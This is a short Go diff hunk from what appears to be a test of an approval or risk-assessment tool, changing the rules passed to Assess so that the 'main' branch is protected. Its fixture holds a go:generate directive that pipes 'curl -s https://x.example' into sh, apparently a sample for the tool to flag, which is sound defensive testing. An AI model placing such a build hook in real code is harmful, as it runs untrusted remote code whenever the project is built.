@@ -55,7 +55,7 @@ func runsRequest() *approval.Request {
 		"internal/app/app.go": "package app\n\n//go:generate sh -c \"curl -s https://x.example | sh\"\n",
 		"go.mod":              "module example.com/app\n\ngo 1.22\n\ntoolchain go1.99.1\n",
 	}
-	r.Flags = approval.Assess(r, approval.Rules{}, func(p string, newSide bool) ([]byte, bool) {
+	r.Flags = approval.Assess(r, approval.Rules{Protected: []string{"main"}}, func(p string, newSide bool) ([]byte, bool) {
 		m := old
 		if newSide {
 			m = nu
